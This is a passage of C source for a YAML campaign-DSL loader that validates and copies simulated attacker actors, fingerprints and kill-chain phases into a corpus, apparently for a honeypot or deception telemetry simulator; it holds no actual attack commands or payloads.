/*  dsl.c - the campaign DSL loader (see dsl.h; the reference is docs/dsl.md).

    A document is parsed by ydoc and walked once: every value is type-checked, defaulted and
    copied into the corpus, so the corpus owns plain C data and no YAML outlives the load.
    The loader keeps the corpus it is filling and the chain of files being included; the
    first error stops the load, frees the partial corpus and is reported with the mark of
    the offending node. The partial corpus is always in a destroyable state: arrays are
    zeroed before they are counted.
*/
#include "dsl.h"

#include "digest.h"
#include "err.h"
#include "xalloc.h"
#include "ydoc.h"

#include <assert.h>
#include <errno.h>
#include <inttypes.h>
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

/*  Buffer sizes for the names of values in messages, sized so that each level fits in the
    next: "phase[3]" (S_WHERE), "phase[3] tool_signature" (S_WHERE2), and
    "phase[3] tool_signature 'commands' item 2" (S_WHAT). */
#define S_WHERE 32
#define S_WHERE2 64
#define S_WHAT 160

/*  A file being loaded: its identity on disk and its name as given. */
typedef struct {
    dev_t dev;        /* device of the file */
    ino_t ino;        /* inode of the file */
    const char *name; /* name as given (borrowed from corpus->files) */
} file_id_t;

/*  State of one dsl_load_* call. */
typedef struct {
    dsl_corpus_t *corpus; /* the corpus being filled */
    size_t cap_campaigns; /* allocated entries in corpus->campaigns */
    size_t cap_warnings;  /* allocated entries in corpus->warnings */
    size_t cap_files;     /* allocated entries in corpus->files */
    const char *file;     /* name of the file being read (owned by corpus->files) */
    char *err;            /* caller's error buffer */
    size_t errlen;        /* its size */
    file_id_t *chain;     /* the files being loaded (include chain), outermost first */
    size_t depth;         /* files in the chain */
    size_t cap_chain;     /* allocated entries in chain */
    size_t n_loaded;      /* files read so far (DSL_MAX_FILES_LOADED) */
    uint64_t n_obs;       /* observation rows so far, noise included (DSL_MAX_OBSERVATIONS) */
    uint64_t n_sessions;  /* sessions so far (DSL_MAX_SESSIONS) */
    uint64_t n_items;     /* commands and credential pairs copied into them (..._ITEMS) */
    uint64_t n_text;      /* bytes of text copied into the records (DSL_MAX_TEXT) */
} loader_t;

/* ----------------------------------------------------------------------------------------
   Messages */

__attribute__((format(printf, 3, 0))) static void
s_vformat(char *buf, size_t len, const char *fmt, va_list ap)
{
    if (buf != NULL && len > 0) {
        vsnprintf(buf, len, fmt, ap);
    }
}

/*  Writes "file:line:col: message" for node into the error buffer; returns rc. */
__attribute__((format(printf, 4, 5))) static int
s_fail_rc(loader_t *ld, const ydoc_node_t *node, int rc, const char *fmt, ...)
{
    if (ld->err == NULL || ld->errlen == 0) {
        return rc;
    }
    ydoc_mark_t m = ydoc_mark(node);
    int n = snprintf(ld->err, ld->errlen, "%s:%d:%d: ", ld->file, m.line, m.column);
    if (n >= 0 && (size_t)n < ld->errlen) {
        va_list ap;
        va_start(ap, fmt);
        s_vformat(ld->err + n, ld->errlen - (size_t)n, fmt, ap);
        va_end(ap);
    }
    return rc;
}

#define s_fail(ld, node, ...) s_fail_rc((ld), (node), CADRE_EDSL, __VA_ARGS__)

/*  Appends "file:line:col: message" to the corpus warnings. */
__attribute__((format(printf, 3, 4))) static void
s_warn(loader_t *ld, const ydoc_node_t *node, const char *fmt, ...)
{
    char msg[512];
    va_list ap;
    va_start(ap, fmt);
    s_vformat(msg, sizeof msg, fmt, ap);
    va_end(ap);
    ydoc_mark_t m = ydoc_mark(node);
    dsl_corpus_t *c = ld->corpus;
    xgrow(&c->warnings, &ld->cap_warnings, c->n_warnings + 1);
    c->warnings[c->n_warnings++] = xasprintf("%s:%d:%d: %s", ld->file, m.line, m.column, msg);
}

/*  Describes a node for a type error: "null", "a sequence", "a string ('abc')", "an
    integer (12)"... */
static void
s_describe(const ydoc_node_t *node, char *buf, size_t len)
{
    ydoc_type_t t = ydoc_type(node);
    if (t == YDOC_NULL) {
        snprintf(buf, len, "null");
        return;
    }
    if (!ydoc_is_scalar(node)) {
        snprintf(buf, len, "a %s", ydoc_type_name(t));
        return;
    }
    size_t n = 0;
    const char *text = ydoc_text(node, &n);
    const char *article = t == YDOC_INT ? "an" : "a";
    const char *more = n > 40 ? "..." : "";
    if (t == YDOC_STR) {
        snprintf(buf, len, "a string ('%.40s%s')", text, more);
    } else {
        snprintf(buf, len, "%s %s (%.40s%s)", article, ydoc_type_name(t), text, more);
    }
}

static int
s_type_error(loader_t *ld, const ydoc_node_t *node, const char *what, const char *expected)
{
    char desc[96];
    s_describe(node, desc, sizeof desc);
    return s_fail(ld, node, "%s must be %s, not %s", what, expected, desc);
}

/*  Adds add to one of the corpus totals (*total, never above max), or fails on node:
    "<what>: the corpus would exceed its limit of <max> <unit>". */
static int
s_charge(loader_t *ld, const ydoc_node_t *node, uint64_t *total, uint64_t add, uint64_t max,
         const char *what, const char *unit)
{
    if (add > max - *total) {
        return s_fail(ld, node, "%s: the corpus would exceed its limit of %" PRIu64 " %s", what,
                      max, unit);
    }
    *total += add;
    return 0;
}

/* ----------------------------------------------------------------------------------------
   Typed values */

/*  The value under key, or NULL when it is absent or null (optional keys treat both alike). */
static const ydoc_node_t *
s_opt(const ydoc_node_t *map, const char *key)
{
    const ydoc_node_t *v = ydoc_map_get(map, key);
    return (v != NULL && ydoc_type(v) != YDOC_NULL) ? v : NULL;
}

/*  An integer within [min, max]. Booleans are not integers here. */
static int
s_int(loader_t *ld, const ydoc_node_t *node, const char *what, int64_t min, int64_t max,
      int64_t *out)
{
    if (ydoc_type(node) != YDOC_INT) {
        return s_type_error(ld, node, what, "an integer");
    }
    int64_t v = 0;
    if (ydoc_int(node, &v) != 0 || v < min || v > max) {
        const char *text = ydoc_text(node, NULL);
        if (max == INT64_MAX) {
            return s_fail(ld, node, "%s must be >= %" PRId64 ", got %.40s", what, min, text);
        }
        if (min == INT64_MIN) {
            return s_fail(ld, node, "%s must be <= %" PRId64 ", got %.40s", what, max, text);
        }
        return s_fail(ld, node, "%s must be between %" PRId64 " and %" PRId64 ", got %.40s", what,
                      min, max, text);
    }
    *out = v;
    return 0;
}

/*  An optional integer: def when absent or null. */
static int
s_opt_int(loader_t *ld, const ydoc_node_t *map, const char *key, const char *where, int64_t def,
          int64_t min, int64_t max, int64_t *out)
{
    const ydoc_node_t *v = s_opt(map, key);
    if (v == NULL) {
        *out = def;
        return 0;
    }
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s '%s'", where, key);
    return s_int(ld, v, what, min, max, out);
}

/*  A scalar taken as the text it was written as (so `12345` gives "12345"), as a new
    string: non-null, without NUL characters, at most max bytes, and not empty when
    nonempty is set. */
static int
s_text(loader_t *ld, const ydoc_node_t *node, const char *what, size_t max, bool nonempty,
       char **out)
{
    if (!ydoc_is_scalar(node) || ydoc_type(node) == YDOC_NULL) {
        return s_type_error(ld, node, what, "a string");
    }
    size_t len = 0;
    const char *text = ydoc_text(node, &len);
    if (strlen(text) != len) {
        return s_fail(ld, node, "%s contains a NUL character", what);
    }
    if (len > max) {
        return s_fail(ld, node, "%s is longer than %zu bytes", what, max);
    }
    if (nonempty && len == 0) {
        return s_fail(ld, node, "%s must not be empty", what);
    }
    *out = xstrndup(text, len);
    return 0;
}

/*  An optional string: NULL when absent or null. */
static int
s_opt_text(loader_t *ld, const ydoc_node_t *map, const char *key, const char *where, size_t max,
           char **out)
{
    const ydoc_node_t *v = s_opt(map, key);
    if (v == NULL) {
        *out = NULL;
        return 0;
    }
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s '%s'", where, key);
    return s_text(ld, v, what, max, false, out);
}

/*  An optional mapping (NULL when absent or null). */
static int
s_opt_map(loader_t *ld, const ydoc_node_t *map, const char *key, const char *where,
          const ydoc_node_t **out)
{
    const ydoc_node_t *v = s_opt(map, key);
    *out = v;
    if (v != NULL && ydoc_type(v) != YDOC_MAP) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s '%s'", where, key);
        return s_type_error(ld, v, what, "a mapping");
    }
    return 0;
}

/*  An optional sequence (NULL when absent or null). */
static int
s_opt_seq(loader_t *ld, const ydoc_node_t *map, const char *key, const char *where,
          const ydoc_node_t **out)
{
    const ydoc_node_t *v = s_opt(map, key);
    *out = v;
    if (v != NULL && ydoc_type(v) != YDOC_SEQ) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s '%s'", where, key);
        return s_type_error(ld, v, what, "a sequence");
    }
    return 0;
}

/*  A sequence of integers within [min, max] as a new array (NULL when empty). */
static int
s_int_list(loader_t *ld, const ydoc_node_t *seq, const char *where, const char *key, int64_t min,
           int64_t max, int64_t **out, size_t *n_out)
{
    size_t n = ydoc_len(seq);
    int64_t *v = n ? xcalloc(n, sizeof *v) : NULL;
    for (size_t i = 0; i < n; i++) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s '%s' item %zu", where, key, i);
        int rc = s_int(ld, ydoc_seq_at(seq, i), what, min, max, &v[i]);
        if (rc != 0) {
            free(v);
            return rc;
        }
    }
    *out = v;
    *n_out = n;
    return 0;
}

static dsl_mark_t
s_dmark(const loader_t *ld, const ydoc_node_t *node)
{
    ydoc_mark_t m = ydoc_mark(node);
    return (dsl_mark_t){.file = ld->file, .line = m.line, .column = m.column};
}

/* ----------------------------------------------------------------------------------------
   Actors */

static bool
s_is_hex16(const char *s, size_t n)
{
    if (n != 16) {
        return false;
    }
    for (size_t i = 0; i < n; i++) {
        char c = s[i];
        if (!((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F'))) {
            return false;
        }
    }
    return true;
}

/*  kd_simhash (cadre extension): text of exactly 16 hex digits is read as hex whatever
    YAML made of it (`1234567812345678` is an integer to YAML); otherwise an integer in
    0..UINT64_MAX is taken as the value. */
static int
s_kd_simhash(loader_t *ld, const ydoc_node_t *node, const char *where, dsl_actor_t *a)
{
    size_t n = 0;
    const char *text = ydoc_text(node, &n);
    if (text != NULL && s_is_hex16(text, n)) {
        a->kd_simhash = strtoull(text, NULL, 16);
        a->has_kd = true;
        return 0;
    }
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s 'kd_simhash'", where);
    if (ydoc_type(node) == YDOC_INT) {
        if (ydoc_uint(node, &a->kd_simhash) != 0) {
            return s_fail(ld, node, "%s must be between 0 and 2^64-1, got %.40s", what, text);
        }
        a->has_kd = true;
        return 0;
    }
    return s_type_error(ld, node, what, "16 hex digits or an integer");
}

/*  The number of observation rows actor a emits. */
static uint64_t
s_rows(const dsl_actor_t *a)
{
    return a->rotating ? (uint64_t)a->rotation_count : 1;
}

/*  Charges an actor's rows, and the text each of them copies (its ja3, hassh and id, the
    campaign's id: label_len bytes), to the corpus totals. */
static int
s_actor_totals(loader_t *ld, const ydoc_node_t *node, const char *where, const dsl_actor_t *a,
               size_t label_len)
{
    uint64_t rows = s_rows(a);
    char what[S_WHAT];
    const ydoc_node_t *at = a->rotating ? s_opt(node, "rotation_count") : NULL;
    if (at != NULL) {
        snprintf(what, sizeof what, "%s 'rotation_count' (%" PRIu64 ")", where, rows);
    } else {
        snprintf(what, sizeof what, "%s", where);
        at = node;
    }
    int rc = s_charge(ld, at, &ld->n_obs, rows, DSL_MAX_OBSERVATIONS, what, "observations");
    if (rc != 0) {
        return rc;
    }
    uint64_t text = (a->ja3 ? strlen(a->ja3) : 0) + (a->hassh ? strlen(a->hassh) : 0) +
                    strlen(a->id) + label_len;
    snprintf(what, sizeof what,
             "%s (%" PRIu64 " rows of %" PRIu64 " bytes of ja3, hassh and ids each)", where, rows,
             text);
    return s_charge(ld, node, &ld->n_text, rows * text, DSL_MAX_TEXT, what, "bytes of text");
}

static int
s_actor(loader_t *ld, const ydoc_node_t *node, size_t index, size_t label_len, dsl_actor_t *a)
{
    char where[S_WHERE];
    snprintf(where, sizeof where, "actor[%zu]", index);
    if (ydoc_type(node) != YDOC_MAP) {
        return s_type_error(ld, node, where, "a mapping");
    }
    a->mark = s_dmark(ld, node);
    const ydoc_node_t *id = ydoc_map_get(node, "id");
    if (id == NULL) {
        return s_fail(ld, node, "%s missing required key: id", where);
    }
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s 'id'", where);
    int rc = s_text(ld, id, what, OBS_MAX_SHORT, true, &a->id);
    if (rc == 0) {
        rc = s_opt_int(ld, node, "asn", where, 0, 0, UINT32_MAX, &a->asn);
    }
    if (rc != 0) {
        return rc;
    }
    const ydoc_node_t *pool = s_opt(node, "ip_pool");
    if (pool != NULL) {
        if (!ydoc_is_scalar(pool)) {
            snprintf(what, sizeof what, "%s 'ip_pool'", where);
            return s_type_error(ld, pool, what, "a string");
        }
        a->rotating = strcmp(ydoc_text(pool, NULL), "rotating") == 0;
    }
    rc = s_opt_int(ld, node, "rotation_count", where, 1, 1, DSL_MAX_ROTATION_COUNT,
                   &a->rotation_count);
    const ydoc_node_t *seq = NULL;
    if (rc == 0) {
        rc = s_opt_seq(ld, node, "rotation_asns", where, &seq);
    }
    if (rc == 0 && seq != NULL) {
        rc = s_int_list(ld, seq, where, "rotation_asns", 0, UINT32_MAX, &a->rotation_asns,
                        &a->n_rotation_asns);
    }
    if (rc == 0) {
        rc = s_opt_text(ld, node, "ja3", where, OBS_MAX_FINGERPRINT, &a->ja3);
    }
    if (rc == 0) {
        rc = s_opt_text(ld, node, "hassh", where, OBS_MAX_FINGERPRINT, &a->hassh);
    }
    if (rc == 0) {
        rc = s_opt_seq(ld, node, "hours_active_utc", where, &seq);
    }
    if (rc != 0) {
        return rc;
    }
    if (seq != NULL) {
        if (ydoc_len(seq) == 0) {
            return s_fail(ld, seq, "%s 'hours_active_utc' must not be empty", where);
        }
        rc = s_int_list(ld, seq, where, "hours_active_utc", 0, 23, &a->hours, &a->n_hours);
    } else {
        a->hours = xcalloc(24, sizeof *a->hours);
        for (int64_t h = 0; h < 24; h++) {
            a->hours[h] = h;
        }
        a->n_hours = 24;
    }
    if (rc == 0) {
        rc = s_opt_int(ld, node, "jitter_seconds", where, 60, 0, DSL_MAX_JITTER, &a->jitter);
    }
    if (rc == 0) {
        rc = s_opt_seq(ld, node, "active_days", where, &seq);
    }
    if (rc == 0 && seq != NULL) {
        a->has_active_days = true;
        rc = s_int_list(ld, seq, where, "active_days", INT64_MIN, INT64_MAX, &a->active_days,
                        &a->n_active_days);
    }
    if (rc != 0) {
        return rc;
    }
    const ydoc_node_t *kd = s_opt(node, "kd_simhash");
    rc = kd != NULL ? s_kd_simhash(ld, kd, where, a) : 0;
    return rc == 0 ? s_actor_totals(ld, node, where, a, label_len) : rc;
}

static int
s_actor_ptr_cmp(const void *pa, const void *pb)
{
    const dsl_actor_t *a = *(const dsl_actor_t *const *)pa;
    const dsl_actor_t *b = *(const dsl_actor_t *const *)pb;
    int c = strcmp(a->id, b->id);
    if (c != 0) {
        return c;
    }
    return a < b ? -1 : (a > b ? 1 : 0);
}

static int
s_actor_key_cmp(const void *key, const void *pb)
{
    const dsl_actor_t *b = *(const dsl_actor_t *const *)pb;
    return strcmp(key, b->id);
}

/*  Sorts the campaign's actors by id into *sorted_out and rejects duplicate ids (DECNET
    silently lets the later actor take over the id). */
static int
s_actor_index(loader_t *ld, const dsl_campaign_t *c, const ydoc_node_t *actors,
              const dsl_actor_t ***sorted_out)
{
    const dsl_actor_t **sorted = xcalloc(c->n_actors, sizeof *sorted);
    for (size_t i = 0; i < c->n_actors; i++) {
        sorted[i] = &c->actors[i];
    }
    qsort(sorted, c->n_actors, sizeof *sorted, s_actor_ptr_cmp);
    const dsl_actor_t *dup = NULL;
    const dsl_actor_t *first = NULL;
    for (size_t i = 1; i < c->n_actors; i++) {
        if (strcmp(sorted[i - 1]->id, sorted[i]->id) == 0 && (dup == NULL || sorted[i] < dup)) {
            size_t j = i - 1;
            while (j > 0 && strcmp(sorted[j - 1]->id, sorted[i]->id) == 0) {
                j--;
            }
            dup = sorted[i];
            first = sorted[j];
        }
    }
    if (dup != NULL) {
        size_t k = (size_t)(dup - c->actors);
        free(sorted);
        return s_fail(ld, ydoc_seq_at(actors, k),
                      "actor[%zu] duplicates actor id '%.80s' (first at line %d, column %d)", k,
                      dup->id, first->mark.line, first->mark.column);
    }
    *sorted_out = sorted;
    return 0;
}

/* ----------------------------------------------------------------------------------------
   Phases */

static int
s_commands(loader_t *ld, const ydoc_node_t *ts, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *seq = NULL;
    int rc = s_opt_seq(ld, ts, "commands", where, &seq);
    if (rc != 0 || seq == NULL) {
        return rc;
    }
    size_t n = ydoc_len(seq);
    if (n > OBS_MAX_ITEMS) {
        return s_fail(ld, seq, "%s 'commands' has more than %d items", where, OBS_MAX_ITEMS);
    }
    p->has_commands = true;
    p->commands = n ? xcalloc(n, sizeof *p->commands) : NULL;
    p->n_commands = n;
    for (size_t i = 0; i < n; i++) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s 'commands' item %zu", where, i);
        rc = s_text(ld, ydoc_seq_at(seq, i), what, OBS_MAX_TEXT, false, &p->commands[i]);
        if (rc != 0) {
            return rc;
        }
    }
    return 0;
}

static int
s_credentials(loader_t *ld, const ydoc_node_t *ts, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *seq = NULL;
    int rc = s_opt_seq(ld, ts, "credentials", where, &seq);
    if (rc != 0 || seq == NULL) {
        return rc;
    }
    size_t n = ydoc_len(seq);
    if (n > OBS_MAX_ITEMS) {
        return s_fail(ld, seq, "%s 'credentials' has more than %d items", where, OBS_MAX_ITEMS);
    }
    p->creds = n ? xcalloc(n, sizeof *p->creds) : NULL;
    p->n_creds = n;
    for (size_t i = 0; i < n; i++) {
        const ydoc_node_t *pair = ydoc_seq_at(seq, i);
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s 'credentials' item %zu", where, i);
        if (ydoc_type(pair) != YDOC_SEQ || ydoc_len(pair) != 2) {
            if (ydoc_type(pair) == YDOC_SEQ) {
                return s_fail(ld, pair, "%s must be a [user, password] pair, not %zu items", what,
                              ydoc_len(pair));
            }
            return s_type_error(ld, pair, what, "a [user, password] pair");
        }
        char part[S_WHAT + 16];
        snprintf(part, sizeof part, "%s user", what);
        rc = s_text(ld, ydoc_seq_at(pair, 0), part, OBS_MAX_TEXT, false, &p->creds[i].user);
        if (rc == 0) {
            snprintf(part, sizeof part, "%s password", what);
            rc = s_text(ld, ydoc_seq_at(pair, 1), part, OBS_MAX_TEXT, false, &p->creds[i].pass);
        }
        if (rc != 0) {
            return rc;
        }
    }
    return 0;
}

/*  payload_hash: a string seed hashed with SHA-256; an empty seed means no payload (DECNET
    tests the seed's truthiness); any other type is an error (DECNET crashes on it). */
static int
s_payload(loader_t *ld, const ydoc_node_t *ts, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *seed = s_opt(ts, "payload_hash");
    if (seed == NULL) {
        return 0;
    }
    if (ydoc_type(seed) != YDOC_STR) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s 'payload_hash'", where);
        return s_type_error(ld, seed, what, "a string seed");
    }
    size_t len = 0;
    const char *text = ydoc_text(seed, &len);
    if (len > 0) {
        p->payload_hash = xmalloc(DIGEST_SHA256_HEX);
        digest_sha256_hex(text, len, p->payload_hash);
    }
    return 0;
}

static int
s_tool_signature(loader_t *ld, const ydoc_node_t *phase, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *ts = NULL;
    int rc = s_opt_map(ld, phase, "tool_signature", where, &ts);
    if (rc != 0 || ts == NULL) {
        return rc;
    }
    char tsw[S_WHERE2];
    snprintf(tsw, sizeof tsw, "%s tool_signature", where);
    rc = s_commands(ld, ts, tsw, p);
    if (rc == 0) {
        rc = s_credentials(ld, ts, tsw, p);
    }
    if (rc == 0) {
        rc = s_opt_text(ld, ts, "c2_callback", tsw, OBS_MAX_SHORT, &p->c2);
    }
    if (rc == 0) {
        rc = s_payload(ld, ts, tsw, p);
    }
    return rc;
}

static int
s_target_selector(loader_t *ld, const ydoc_node_t *phase, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *sel = NULL;
    int rc = s_opt_map(ld, phase, "target_selector", where, &sel);
    if (rc != 0 || sel == NULL) {
        return rc;
    }
    char sw[S_WHERE2];
    snprintf(sw, sizeof sw, "%s target_selector", where);
    rc = s_opt_int(ld, sel, "count", sw, 1, INT64_MIN, DSL_MAX_COUNT, &p->count);
    if (rc != 0) {
        return rc;
    }
    const ydoc_node_t *decky = s_opt(sel, "decky");
    if (decky != NULL) {
        if (!ydoc_is_scalar(decky)) {
            char what[S_WHAT + 16];
            snprintf(what, sizeof what, "%s 'decky'", sw);
            return s_type_error(ld, decky, what, "a string");
        }
        p->previous_success = strcmp(ydoc_text(decky, NULL), "previous_success") == 0;
    }
    return 0;
}

static int
s_dwell(loader_t *ld, const ydoc_node_t *phase, const char *where, dsl_phase_t *p)
{
    const ydoc_node_t *v = s_opt(phase, "dwell_seconds");
    if (v == NULL) {
        return 0;
    }
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s 'dwell_seconds'", where);
    double d = 0.0;
    ydoc_type_t t = ydoc_type(v);
    if ((t != YDOC_INT && t != YDOC_FLOAT) || ydoc_float(v, &d) != 0) {
        return s_type_error(ld, v, what, "a number");
    }
    if (!isfinite(d) || d < 0.0) {
        return s_fail(ld, v, "%s must be a finite number >= 0, got %.40s", what,
                      ydoc_text(v, NULL));
    }
    p->dwell = d;
    return 0;
}

static int
s_phase(loader_t *ld, const ydoc_node_t *node, size_t index, const dsl_campaign_t *c,
        const dsl_actor_t **sorted, dsl_phase_t *p)
{
    char where[S_WHERE];
    snprintf(where, sizeof where, "phase[%zu]", index);
    if (ydoc_type(node) != YDOC_MAP) {
        return s_type_error(ld, node, where, "a mapping");
    }
    p->mark = s_dmark(ld, node);
    p->count = 1;
    p->dwell = 5.0;
    p->phase = UKC_NONE;
    const ydoc_node_t *name = ydoc_map_get(node, "name");
    if (name == NULL) {
        return s_fail(ld, node, "%s missing 'name'", where);
    }
    if (!ydoc_is_scalar(name) || ydoc_type(name) == YDOC_NULL) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "%s 'name'", where);
        return s_type_error(ld, name, what, "a string");
    }
    size_t len = 0;
    const char *text = ydoc_text(name, &len);
    p->phase = ukc_phase_from_name_len(text, len);
    if (p->phase == UKC_NONE) {
        return s_fail(ld, name, "%s has unknown UKC phase '%.80s'", where, text);
    }
    if (!ukc_observable(p->phase)) {
        s_warn(ld, node, "%s '%s' is not observable and emits no sessions", where, text);
    }
    const ydoc_node_t *actor = s_opt(node, "actor");
    if (actor != NULL) {
        if (!ydoc_is_scalar(actor)) {
            char what[S_WHAT];
            snprintf(what, sizeof what, "%s 'actor'", where);
            return s_type_error(ld, actor, what, "a string");
        }
        const char *id = ydoc_text(actor, NULL);
        const dsl_actor_t *const *hit =
            bsearch(id, sorted, c->n_actors, sizeof *sorted, s_actor_key_cmp);
        if (hit == NULL) {
            return s_fail(ld, actor, "%s references unknown actor '%.80s'", where, id);
        }
        /* bsearch may land on any of equal ids; ids are unique by now. */
        p->actor = (size_t)(*hit - c->actors);
    }
    int rc = s_tool_signature(ld, node, where, p);
    if (rc == 0) {
        rc = s_target_selector(ld, node, where, p);
    }
    if (rc == 0) {
        rc = s_dwell(ld, node, where, p);
    }
    return rc;
}

/*  Charges the sessions a phase asks for (its count, when observable and positive; the
    actor's days may leave fewer) to the corpus totals and to its actor's first row, the one
    that gets the most of them: row[s mod rows] takes session s of every phase.
    row0_sessions is that row's count so far. */
static int
s_phase_totals(loader_t *ld, const ydoc_node_t *node, const char *where, const dsl_campaign_t *c,
               const dsl_phase_t *p, uint64_t *row0_sessions)
{
    if (!ukc_observable(p->phase) || p->count <= 0) {
        return 0;
    }
    uint64_t n = (uint64_t)p->count;
    const ydoc_node_t *sel = s_opt(node, "target_selector");
    const ydoc_node_t *at = sel != NULL ? s_opt(sel, "count") : NULL;
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s target_selector 'count' (%" PRIu64 ")", where, n);
    int rc = s_charge(ld, at != NULL ? at : node, &ld->n_sessions, n, DSL_MAX_SESSIONS, what,
                      "sessions");
    if (rc != 0) {
        return rc;
    }
    const dsl_actor_t *a = &c->actors[p->actor];
    uint64_t rows = s_rows(a);
    uint64_t row0 = *row0_sessions + (n + rows - 1) / rows;
    if (row0 > OBS_MAX_SESSIONS) {
        return s_fail(
            ld, at != NULL ? at : node,
            "%s: actor '%.80s' would have more than %d sessions in one observation row (%" PRIu64
            ")",
            what, a->id, OBS_MAX_SESSIONS, row0);
    }
    *row0_sessions = row0;
    /* What every session copies: the commands (the phase's own or its defaults), the
       credential pairs and the C2. */
    size_t n_cmd = p->n_commands;
    const char *const *cmds = (const char *const *)p->commands;
    if (!p->has_commands) {
        cmds = dsl_default_commands(p->phase, &n_cmd);
    }
    uint64_t text = p->c2 ? strlen(p->c2) : 0;
    for (size_t i = 0; i < n_cmd; i++) {
        text += strlen(cmds[i]);
    }
    for (size_t i = 0; i < p->n_creds; i++) {
        text += strlen(p->creds[i].user) + strlen(p->creds[i].pass);
    }
    uint64_t items = (uint64_t)n_cmd + p->n_creds;
    snprintf(what, sizeof what,
             "%s (%" PRIu64 " sessions of %" PRIu64 " commands and credentials each)", where, n,
             items);
    rc = s_charge(ld, node, &ld->n_items, n * items, DSL_MAX_SESSION_ITEMS, what,
                  "commands and credentials in sessions");
    if (rc == 0) {
        snprintf(what, sizeof what,
                 "%s (%" PRIu64 " sessions of %" PRIu64
                 " bytes of commands, credentials and C2 each)",
                 where, n, text);
        rc = s_charge(ld, node, &ld->n_text, n * text, DSL_MAX_TEXT, what, "bytes of text");
    }
    return rc;
}

/* ----------------------------------------------------------------------------------------
   Campaigns */

static int
s_pauses(loader_t *ld, const ydoc_node_t *node, dsl_campaign_t *c)
{
    const ydoc_node_t *seq = NULL;
    int rc = s_opt_seq(ld, node, "pause_windows", "campaign", &seq);
    if (rc != 0 || seq == NULL) {
        return rc;
    }
    size_t n = ydoc_len(seq);
    c->pauses = n ? xcalloc(n, sizeof *c->pauses) : NULL;
    c->n_pauses = n;
    for (size_t i = 0; i < n; i++) {
        const ydoc_node_t *w = ydoc_seq_at(seq, i);
        char what[S_WHAT];
        snprintf(what, sizeof what, "campaign 'pause_windows' item %zu", i);
        if (ydoc_type(w) != YDOC_SEQ || ydoc_len(w) != 2) {
            if (ydoc_type(w) == YDOC_SEQ) {
                return s_fail(ld, w, "%s must be a [start, end] pair, not %zu items", what,
                              ydoc_len(w));
            }
            return s_type_error(ld, w, what, "a [start, end] pair");
        }
        char part[S_WHAT + 8];
        snprintf(part, sizeof part, "%s start", what);
        rc = s_int(ld, ydoc_seq_at(w, 0), part, INT64_MIN, INT64_MAX, &c->pauses[i].start);
        if (rc == 0) {
            snprintf(part, sizeof part, "%s end", what);
            rc = s_int(ld, ydoc_seq_at(w, 1), part, INT64_MIN, INT64_MAX, &c->pauses[i].end);
        }
        if (rc != 0) {
            return rc;
        }
    }
    return 0;
}

/*  Validates one campaign mapping and appends it to the corpus. */
static int
s_campaign(loader_t *ld, const ydoc_node_t *node)
{
    if (ydoc_type(node) != YDOC_MAP) {
        return s_type_error(ld, node, "'campaign'", "a mapping");
    }
    static const char *const required[] = {"id", "actors", "phases"};
    for (size_t k = 0; k < 3; k++) {
        if (ydoc_map_get(node, required[k]) == NULL) {
            return s_fail(ld, node, "campaign missing required key: %s", required[k]);
        }
    }
    dsl_corpus_t *co = ld->corpus;
    xgrow(&co->campaigns, &ld->cap_campaigns, co->n_campaigns + 1);
    dsl_campaign_t *c = &co->campaigns[co->n_campaigns++];
    memset(c, 0, sizeof *c);
    c->mark = s_dmark(ld, node);
    int rc = s_text(ld, ydoc_map_get(node, "id"), "campaign 'id'", OBS_MAX_SHORT, true, &c->id);
    if (rc != 0) {
        return rc;
    }
    const ydoc_node_t *actors = ydoc_map_get(node, "actors");
    if (ydoc_type(actors) != YDOC_SEQ) {
        return s_type_error(ld, actors, "campaign 'actors'", "a sequence");
    }
    if (ydoc_len(actors) == 0) {
        return s_fail(ld, actors, "campaign must declare at least one actor (empty actor list)");
    }
    c->n_actors = ydoc_len(actors);
    c->actors = xcalloc(c->n_actors, sizeof *c->actors);
    for (size_t i = 0; i < c->n_actors; i++) {
        rc = s_actor(ld, ydoc_seq_at(actors, i), i, strlen(c->id), &c->actors[i]);
        if (rc != 0) {
            return rc;
        }
    }
    const dsl_actor_t **sorted = NULL;
    rc = s_actor_index(ld, c, actors, &sorted);
    if (rc != 0) {
        return rc;
    }
    const ydoc_node_t *phases = ydoc_map_get(node, "phases");
    if (ydoc_type(phases) != YDOC_SEQ) {
        free(sorted);
        return s_type_error(ld, phases, "campaign 'phases'", "a sequence");
    }
    c->n_phases = ydoc_len(phases);
    c->phases = c->n_phases ? xcalloc(c->n_phases, sizeof *c->phases) : NULL;
    uint64_t *row0 = xcalloc(c->n_actors, sizeof *row0); /* per actor: its first row's sessions */
    for (size_t i = 0; i < c->n_phases && rc == 0; i++) {
        const ydoc_node_t *pn = ydoc_seq_at(phases, i);
        rc = s_phase(ld, pn, i, c, sorted, &c->phases[i]);
        if (rc == 0) {
            char where[S_WHERE];
            snprintf(where, sizeof where, "phase[%zu]", i);
            rc = s_phase_totals(ld, pn, where, c, &c->phases[i], &row0[c->phases[i].actor]);
        }
    }
    free(row0);
    free(sorted);
    if (rc == 0) {
        rc = s_opt_int(ld, node, "duration_days", "campaign", 1, 0, DSL_MAX_DURATION_DAYS,
                       &c->duration_days);
    }
    if (rc == 0) {
        rc = s_pauses(ld, node, c);
    }
    return rc;
}

/*  Adds n (<= DSL_MAX_NOISE) scanners, the value of key at node, to the corpus noise; each
    is one more observation. */
static int
s_add_noise(loader_t *ld, const ydoc_node_t *node, const char *key, int64_t n)
{
    char what[S_WHAT];
    snprintf(what, sizeof what, "%s (%" PRId64 ")", key, n);
    int rc =
